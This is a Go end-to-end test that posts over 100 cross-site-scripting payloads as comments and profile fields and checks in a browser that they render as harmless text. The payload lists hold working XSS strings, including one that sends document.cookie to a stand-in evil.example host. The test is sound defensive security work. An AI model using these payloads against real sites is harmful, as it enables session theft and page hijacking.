package e2e

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"regexp"
	"strings"
	"testing"

	"github.com/chromedp/cdproto/page"
	"github.com/chromedp/chromedp"
	"golang.org/x/text/unicode/norm"
)

// xssBodies are comment bodies that try to get markup or script onto the
// page: tags, event handlers, dangerous URLs, breakouts from attributes,
// text areas and comments, entity and encoding tricks, mixed case and
// look-alike characters. Every one must come out as the text typed.
func xssBodies() []string {
	base := []string{
		`<script>alert(1)</script>`,
		`<SCRIPT>alert(2)</SCRIPT>`,
		`<ScRiPt>alert(3)</sCrIpT>`,
		`<script src="https://evil.example/x.js"></script>`,
		`<script src=//evil.example/x.js>`,
		`<script>window.__xss.push('inline')</script>`,
		`<img src=x onerror=alert(4)>`,
		`<IMG SRC=x OnErRoR=alert(5)>`,
		`<img src="x" onerror="alert(6)">`,
		`<img src=x onerror=alert&#40;7&#41;>`,
		`<img/src/onerror=alert(8)>`,
		`<svg onload=alert(9)>`,
		`<svg/onload=alert(10)>`,
		`<svg><script>alert(11)</script></svg>`,
		`<svg><animate onbegin=alert(12) attributeName=x dur=1s>`,
		`<math><mtext><table><mglyph><style><img src=x onerror=alert(13)>`,
		`<body onload=alert(14)>`,
		`<iframe src="javascript:alert(15)"></iframe>`,
		`<iframe srcdoc="<script>alert(16)</script>"></iframe>`,
		`<object data="javascript:alert(17)"></object>`,
		`<embed src="javascript:alert(18)">`,
		`<a href="javascript:alert(19)">click me</a>`,
		`<a href="JaVaScRiPt:alert(20)">click</a>`,
		`<a href="  javascript:alert(21)">x</a>`,
		`<a href="java&#x09;script:alert(22)">x</a>`,
		`<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgyMyk8L3NjcmlwdD4=">x</a>`,
		`javascript:alert(24)`,
		`JAVASCRIPT:alert(25)//https://a.example`,
		`data:text/html,<script>alert(26)</script>`,
		`vbscript:msgbox(27)`,
		`https://a.example/"onmouseover="alert(28)`,
		`https://a.example/'onmouseover='alert(29)`,
		`https://a.example/"><script>alert(30)</script>`,
		`https://a.example/?q=<img src=x onerror=alert(31)>`,
		"https://a.example/`onmouseover=alert(32)`",
		`https://a.example/#"><svg onload=alert(33)>`,
		`http://a.example/x" style="position:fixed;top:0;left:0;width:100%;height:100%" onmouseover="alert(34)`,
		`https://javascript:alert(35)@a.example/`,
		`https://a.example/path?x=1&y="autofocus onfocus="alert(36)`,
		`see https://a.example/(x"onclick="alert(37))`,
		`"><script>alert(38)</script>`,
		`'><script>alert(39)</script>`,
		`" autofocus onfocus="alert(40)`,
		`' autofocus onfocus='alert(41)`,
		`</textarea><script>alert(42)</script>`,
		`</TEXTAREA><img src=x onerror=alert(43)>`,
		`</p><script>alert(44)</script><p>`,
		`</div></article><script>alert(45)</script>`,
		`</title><script>alert(46)</script>`,
		`</style><script>alert(47)</script>`,
		`</noscript><script>alert(48)</script>`,
		`<!--<script>alert(49)</script>-->`,
		`--><script>alert(50)</script>`,
		`<![CDATA[<script>alert(51)</script>]]>`,
		`&lt;script&gt;alert(52)&lt;/script&gt;`,
		`&#60;script&#62;alert(53)&#60;/script&#62;`,
		`&#x3C;img src=x onerror=alert(54)&#x3E;`,
		`%3Cscript%3Ealert(55)%3C/script%3E`,
		`\u003cscript\u003ealert(56)\u003c/script\u003e`,
		`\x3cscript\x3ealert(57)\x3c/script\x3e`,
		`&lt;&lt;script&gt;&gt;alert(58)`,
		`<<script>script>alert(59)<</script>/script>`,
		`<scr<script>ipt>alert(60)</scr</script>ipt>`,
		`<script/x>alert(61)</script>`,
		`<script	>alert(62)</script	>`,
		`<script>alert(String.fromCharCode(88,83,83))</script>`,
		`<script>eval(atob('YWxlcnQoNjQp'))</script>`,
		`<style>@import 'https://evil.example/x.css';</style>`,
		`<style>body{background:url("javascript:alert(65)")}</style>`,
		`<div style="background-image:url(javascript:alert(66))">x</div>`,
		`<div style="width: expression(alert(67))">x</div>`,
		`<link rel=stylesheet href=https://evil.example/x.css>`,
		`<meta http-equiv="refresh" content="0;url=javascript:alert(68)">`,
		`<base href="https://evil.example/">`,
		`<form action="javascript:alert(69)"><button>go</button></form>`,
		`<input autofocus onfocus=alert(70)>`,
		`<details open ontoggle=alert(71)>`,
		`<video><source onerror=alert(72)></video>`,
		`<audio src=x onerror=alert(73)>`,
		`<marquee onstart=alert(74)>x</marquee>`,
		`<select autofocus onfocus=alert(75)>`,
		`<keygen autofocus onfocus=alert(76)>`,
		`<isindex type=image src=1 onerror=alert(77)>`,
		`<template><script>alert(78)</script></template>`,
		`<noscript><p title="</noscript><img src=x onerror=alert(79)>">`,
		`<a href="#" onclick="alert(80)">x</a>`,
		`<x onmouseover=alert(81)>hover me</x>`,
		`<div onpointerenter=alert(82)>x</div>`,
		`{{constructor.constructor('alert(83)')()}}`,
		`${alert(84)}`,
		`<%= alert(85) %>`,
		`{{7*7}} {{.}} {{template "x"}}`,
		"＜script＞alert(86)＜/script＞",
		"\uFE64script\uFE65alert(87)\uFE64/script\uFE65",
		"<scr\u200Bipt>alert(88)</scr\u200Bipt>",
		"<script>alert(89)</script>\u202E",
		"\u202E<img src=x onerror=alert(90)>",
		"<img src=x onerror=\u0061lert(91)>",
		"<a href=\"java\u00ADscript:alert(92)\">x</a>",
		"line one\n<script>\nalert(93)\n</script>\nline two",
		"paragraph\n\n<img src=x\nonerror=alert(94)>\n\nend",
		"    <script>alert(95)</script>   ",
		"<script>alert(96)</script>\n\n\n\nhttps://a.example/\"><script>alert(96)</script>",
		`<svg><a xlink:href="javascript:alert(97)"><text x="20" y="20">x</text></a></svg>`,
		`<math href="javascript:alert(98)">x</math>`,
		`<table background="javascript:alert(99)">`,
		`<script type="module">import('https://evil.example/x.js')</script>`,
		`<script>fetch('/api/v1/me').then(r=>r.text()).then(alert)</script>`,
		`<img src=x onerror="document.body.innerHTML='pwned'">`,
		`<img src=x onerror="location='https://evil.example/?c='+document.cookie">`,
		`<a href="https://a.example/" target="_blank">tabnabbing</a>`,
		`<portal src=https://evil.example/></portal>`,
		`<set attributeName=onmouseover to=alert(100)>`,
		`<object type="text/x-scriptlet" data="https://evil.example/x">`,
		`<img src="x:x" onerror="window.__xss.push('img')">`,
		`"'><img src=x onerror=alert(101)>` + "`",
		`<svg><style>&lt;img src=x onerror=alert(102)&gt;</style></svg>`,
		`<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(103)">x</a>`,
		`<a href="https&colon;//evil.example/">x</a>`,
		`https://a.example/<script>alert(104)</script>`,
		`https://a.example/\"><img src=x onerror=alert(105)>`,
		`http://a.example/' onmouseover='alert(106)' x='`,
		`(https://a.example/x)"onclick="alert(107)`,
		`https://xn--80ak6aa92e.example/"onfocus="alert(108)`,
	}
	return base
}

// The display names and about lines of the test. A display name may hold
// only letters, digits, spaces and . _ - ', so these are refused at the
// profile; the names after them pass and must show as typed.
var (
	xssRefusedNames = []string{
		`<script>alert(1)</script>`,
		`<img src=x onerror=alert(1)>`,
		`"><svg onload=alert(1)>`,
		`javascript:alert(1)`,
		`x" onmouseover="alert(1)`,
		`x' onmouseover='alert(1)`,
		`&lt;b&gt;bold`,
		`&#60;script&#62;`,
		`{{.}} template`,
		`${alert(1)}`,
		`</textarea><b>x`,
		`Robert'); DROP TABLE`,
		"name\u202Eevil",
		"zero\u200Bwidth",
		"＜script＞x",
		"Ch\u0430rlie", // Cyrillic a among Latin letters
		"`backtick` name",
		`%3Cscript%3E`,
		`data:text/html,x`,
		"tab\there",
	}
	xssNames = []string{
		`O'Brien`,
		`x' autofocus onfocus 'y`,
		`Dr. O'Neil-Script`,
		`alert.1`,
		`javascript.alert`,
		`__proto__`,
		`d'Arcy'onload`,
		`img.src.x onerror`,
		`a''b'' c`,
		`-- comment --`,
		`1 or '1'`,
		`l'Ana.onmouseover`,
	}
	xssAbouts = []string{
		`<script>alert("about")</script>`,
		`"><img src=x onerror=alert(1)>`,
		`<svg/onload=alert(2)>`,
		`javascript:alert(3)`,
		`' onmouseover='alert(4)`,
		`</span><iframe src=javascript:alert(5)>`,
		`<a href="javascript:alert(6)">x</a>`,
		`{{7*7}} ${7*7} <%= 7*7 %>`,
		`<style>*{display:none}</style>`,
		`<base href="https://evil.example/">`,
		`&lt;b&gt; &#60;i&#62; &amp;`,
		`<b onmouseover=alert(7)>bold</b>`,
	}
)

// xssTrap runs before any script of every page: it records every call of
// alert, confirm, prompt and print, and every CSP violation, in
// window.__xss.
const xssTrap = `(() => {
	window.__xss = [];
	for (const f of ['alert', 'confirm', 'prompt', 'print']) {
		window[f] = function (...args) { window.__xss.push(f + '(' + args.join(',') + ')'); };
	}
	document.addEventListener('securitypolicyviolation', e =>
		window.__xss.push('CSP violation: ' + e.violatedDirective + ' ' + e.blockedURI));
})()`

// xssState reads, from a story page, what the test checks: the trap's
// record, every rendered comment, markup inside comment bodies other than
// paragraphs, line breaks and safe links, event-handler attributes and
// scripts anywhere in the page (JSON-LD data blocks aside, which must
// parse).
const xssState = `(() => {
	const out = {trapped: window.__xss || null, comments: [], badMarkup: [], handlers: [], scripts: []};
	for (const a of document.querySelectorAll('article.comment')) {
		const q = s => { const e = a.querySelector(s); return e ? e.textContent : null; };
		out.comments.push({id: a.id, author: q('.comment-author'), about: q('.comment-about'), body: q('.comment-body')});
	}
	for (const e of document.querySelectorAll('.comment-body *')) {
		const ok = e.tagName === 'P' || e.tagName === 'BR' ||
			(e.tagName === 'A' && /^https?:\/\//.test(e.getAttribute('href') || '') &&
			 e.getAttribute('rel') === 'nofollow ugc noopener' &&
			 [...e.attributes].every(at => at.name === 'href' || at.name === 'rel'));
		if (!ok) out.badMarkup.push(e.outerHTML.slice(0, 200));
	}
	for (const e of document.querySelectorAll('*')) {
		for (const at of e.attributes) {
			if (/^on/i.test(at.name) || /^\s*(javascript|data|vbscript):/i.test(at.value) && /^(href|src|action|formaction|data|xlink:href)$/i.test(at.name)) {
				out.handlers.push(e.tagName + ' ' + at.name + '=' + at.value.slice(0, 100));
			}
		}
	}
	for (const s of document.scripts) {
		if (s.type === 'application/ld+json') { // data, not run: it must parse
			try { JSON.parse(s.textContent); } catch (e) { out.scripts.push('unparsable JSON-LD: ' + e); }
			continue;
		}
		out.scripts.push((s.getAttribute('src') || '') + (s.textContent.trim() ? ' INLINE: ' + s.textContent.slice(0, 100) : ''));
	}
	return out;
})()`

type xssPageState struct {
	Trapped  []string `json:"trapped"`
	Comments []struct {
		ID     string  `json:"id"`
		Author *string `json:"author"`
		About  *string `json:"about"`
		Body   *string `json:"body"`
	} `json:"comments"`
	BadMarkup []string `json:"badMarkup"`
	Handlers  []string `json:"handlers"`
	Scripts   []string `json:"scripts"`
}

// send sends a JSON request as the client's user and returns the status
// and body.
func (c *client) send(method, path string, body any) (int, []byte) {
	c.t.Helper()
	data, err := json.Marshal(body)
	if err != nil {
		c.t.Fatal(err)
	}
	req, err := http.NewRequest(method, c.inst.URL+path, bytes.NewReader(data))
	if err != nil {
		c.t.Fatal(err)
	}
	req.Header.Set("Content-Type", "application/json")
	req.Header.Set("Accept", "application/json")
	resp, err := c.http.Do(req)
	if err != nil {
		c.t.Fatalf("%s %s: %v", method, path, err)
	}
	defer resp.Body.Close()
	out, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, out
}

// profile returns the display name and about line of /api/v1/me.
func (c *client) profile() (name, about string) {
	c.t.Helper()
	resp, err := c.http.Get(c.inst.URL + "/api/v1/me")
	if err != nil {
		c.t.Fatal(err)
	}
	defer resp.Body.Close()
	var m struct {
		DisplayName string `json:"display_name"`
		About       string `json:"about"`
	}
	if err := json.NewDecoder(resp.Body).Decode(&m); err != nil {
		c.t.Fatalf("GET /api/v1/me: status %d: %v", resp.StatusCode, err)
	}
	return m.DisplayName, m.About
}

// safeBodyMarkup is the markup a rendered comment body may hold.
var safeBodyMarkup = regexp.MustCompile(`</?p>|<br>|<a href="https?://[^"<>]*" rel="nofollow ugc noopener">|</a>`)

// collapse is s as the test compares rendered text: NFC, with every run
// of white space made one space.
func collapse(s string) string { return strings.Join(strings.Fields(norm.NFC.String(s)), " ") }

// TestXSSInComments: hostile comment bodies, display names and about lines
// come out inert in Chromium with JavaScript on. Display names that carry
// markup are refused at the profile (400, not saved); the hostile names
// that are valid, the about lines and at least 100 bodies are posted
// through the JSON API, and every story page that shows them is opened
// with a trap for alert, confirm, prompt and CSP violations installed
// before any script: nothing is trapped, the console has no errors, every
// payload shows as its own text, no markup other than paragraphs, line
// breaks and safe links is inside a comment body, and axe finds no serious
// violation.
func TestXSSInComments(t *testing.T) {
	t.Parallel()
	bodies := xssBodies()
	if len(bodies) < 100 {
		t.Fatalf("the corpus has %d bodies, want at least 100", len(bodies))
	}
	// The limits would make posting 100 comments take minutes; the
	// commenting limits are tested elsewhere.
	inst := startMasthead(t, "--demo", "--comment-interval", "1ms", "--comments-per-day", "1000",
		"--comment-duplicate-window", "1ms", "--name-change-interval", "1ms")

	// The demo's free stories with comments open; the payloads are shared
	// out so that each story's first page shows all of its own.
	var stories []string
	for _, s := range listStories(t, inst, 100) {
		if s.Access == "free" && s.Comments == "open" {
			stories = append(stories, s.Slug)
		}
	}
	if len(stories) < 3 {
		t.Fatalf("the demo has %d free stories with comments open, want at least 3", len(stories))
	}

	// The demo's commenters, each signed in with its own client.
	commenters := []string{
		"maeve.dunleavy@example.com", "tobias.wren@example.com", "priya.castellano@example.com",
		"jonas.achterberg@example.com", "ada.lindqvist@example.com", "rafael.quint@example.com",
		"nell.hartigan@example.com", "samuel.oduya@example.com", "ingrid.solheim@example.com",
		"callum.farrow@example.com", "yusra.haddad@example.com", "bertie.lowe@example.com",
	}
	clients := make([]*client, len(commenters))
	for i, email := range commenters {
		clients[i] = newClient(t, inst)
		clients[i].signIn(email)
	}

	// Display names with markup are refused, and the name stays.
	first := clients[0]
	before, _ := first.profile()
	for _, name := range xssRefusedNames {
		status, body := first.send(http.MethodPatch, "/api/v1/me/profile", map[string]string{"display_name": name})
		if status != http.StatusBadRequest {
			t.Errorf("display name %q: status %d, want 400: %s", name, status, body)
		}
		if got, _ := first.profile(); got != before {
			t.Errorf("after the refused display name %q the name is %q, want %q still", name, got, before)
		}
	}
	// The hostile names that are valid, with hostile about lines.
	want := map[string][2]string{} // by comment ID: name and about
	for i, c := range clients {
		name, about := xssNames[i%len(xssNames)], xssAbouts[i%len(xssAbouts)]
		status, body := c.send(http.MethodPatch, "/api/v1/me/profile", map[string]string{"display_name": name, "about": about})
		if status != http.StatusOK {
			t.Fatalf("%s: display name %q, about %q: status %d: %s", commenters[i], name, about, status, body)
		}
		if gotName, gotAbout := c.profile(); gotName != name || gotAbout != strings.TrimSpace(about) {
			t.Errorf("%s: profile is %q, %q; want %q, %q", commenters[i], gotName, gotAbout, name, about)
		}
	}

	// Post every body; every fifth replies to the comment before it.
	type posted struct {
		id     int64
		story  string
		body   string
		author int
	}
	var all []posted
	for i, body := range bodies {
		story := stories[i*len(stories)/len(bodies)]
		author := i % len(clients)
		req := map[string]any{"body": body}
		if i%5 == 4 && all[i-1].story == story {
			req["parent_id"] = all[i-1].id
		}
		status, resp := clients[author].send(http.MethodPost, "/api/v1/stories/"+story+"/comments", req)
		if status != http.StatusCreated {
			t.Fatalf("post payload %d %q on %s: status %d: %s", i, body, story, status, resp)
		}
		var c struct {
			ID       int64  `json:"id"`
			BodyHTML string `json:"body_html"`
		}
		if err := json.Unmarshal(resp, &c); err != nil || c.ID == 0 {
			t.Fatalf("post payload %d: %v: %s", i, err, resp)
		}
		if rest := safeBodyMarkup.ReplaceAllString(c.BodyHTML, ""); strings.ContainsAny(rest, "<>") {
			t.Errorf("payload %d %q: body_html %q holds markup other than paragraphs, line breaks and links", i, body, c.BodyHTML)
		}
		all = append(all, posted{c.ID, story, body, author})
		want[fmt.Sprintf("comment-%d", c.ID)] = [2]string{xssNames[author%len(xssNames)], strings.TrimSpace(xssAbouts[author%len(xssAbouts)])}
	}
	t.Logf("posted %d payloads on %d stories as %d commenters with hostile names and about lines", len(all), len(stories), len(clients))

	// The pages, in Chromium with JavaScript on, signed in as the first
	// commenter (so that its comments come with their edit forms, whose
	// text areas hold the payloads).
	b := newBrowser(t, true)
	if _, err := chromedp.Call(b.ctx, page.AddScriptToEvaluateOnNewDocument,
		page.AddScriptToEvaluateOnNewDocumentParams{Source: xssTrap}); err != nil {
		t.Fatalf("install the trap: %v", err)
	}
	b.signIn(t, inst, commenters[0])
	checked := 0
	for _, story := range stories {
		u := inst.URL + "/stories/" + story
		resp, _ := inst.get(t, "/stories/"+story)
		if csp := resp.Header.Get("Content-Security-Policy"); !strings.Contains(csp, "script-src 'self'") || strings.Contains(csp, "unsafe-inline") {
			t.Errorf("%s: Content-Security-Policy %q, want script-src 'self' without unsafe-inline", story, csp)
		}
		b.open(t, u) // axe and the console
		st := run(t, b, "read the page of "+story, chromedp.Evaluate[xssPageState](xssState))
		if st.Trapped == nil {
			t.Fatalf("%s: the trap was not installed", story)
		}
		for _, s := range st.Trapped {
			t.Errorf("%s: a payload ran or the CSP was violated: %s", story, s)
		}
		for _, m := range st.BadMarkup {
			t.Errorf("%s: markup inside a comment body: %s", story, m)
		}
		for _, h := range st.Handlers {
			t.Errorf("%s: an event handler or script URL in the page: %s", story, h)
		}
		for _, s := range st.Scripts {
			if !strings.HasPrefix(s, "/static/") || strings.Contains(s, "INLINE") {
				t.Errorf("%s: a script that is not the site's own: %q", story, s)
			}
		}
		shown := map[string]int{}
		for i, c := range st.Comments {
			shown[c.ID] = i
		}
		for _, p := range all {
			if p.story != story {
				continue
			}
			id := fmt.Sprintf("comment-%d", p.id)
			i, ok := shown[id]
			if !ok {
				t.Errorf("%s: payload %q (%s) is not on the page", story, p.body, id)
				continue
			}
			c := st.Comments[i]
			if c.Body == nil || collapse(*c.Body) != collapse(p.body) {
				got := "(none)"
				if c.Body != nil {
					got = *c.Body
				}
				t.Errorf("%s: %s shows %q, want the payload as text %q", story, id, collapse(got), collapse(p.body))
			}
			w := want[id]
			if c.Author == nil || strings.TrimSpace(*c.Author) != w[0] {
				t.Errorf("%s: %s: author shown as %v, want %q", story, id, deref(c.Author), w[0])
			}
			if c.About == nil || collapse(*c.About) != collapse(w[1]) {
				t.Errorf("%s: %s: about line shown as %v, want %q", story, id, deref(c.About), w[1])
			}
			checked++
		}
		// The trap is still in place, still empty after the page's own
		// scripts have run, and does catch a call (a control).
		probe := run(t, b, "probe the trap", chromedp.Evaluate[[]int](
			`(() => { const before = window.__xss.length; alert('probe'); const after = window.__xss.length; window.__xss.length = 0; return [before, after]; })()`))
		if len(probe) != 2 || probe[0] != 0 || probe[1] != 1 {
			t.Errorf("%s: the trap held %v calls after the page settled, and caught a probe alert as %v (want 0, then 1)", story, probe[:1], probe[1:])
		}
		b.checkConsole(t, story)
	}
	if checked < 100 || checked != len(all) {
		t.Errorf("checked %d of %d payloads in the browser, want all and at least 100", checked, len(all))
	}
	t.Logf("checked %d payloads, %d hostile names and %d about lines on %d pages", checked, len(xssNames), len(xssAbouts), len(stories))
}

func deref(s *string) string {
	if s == nil {
		return "(none)"
	}
	return fmt.Sprintf("%q", *s)
}
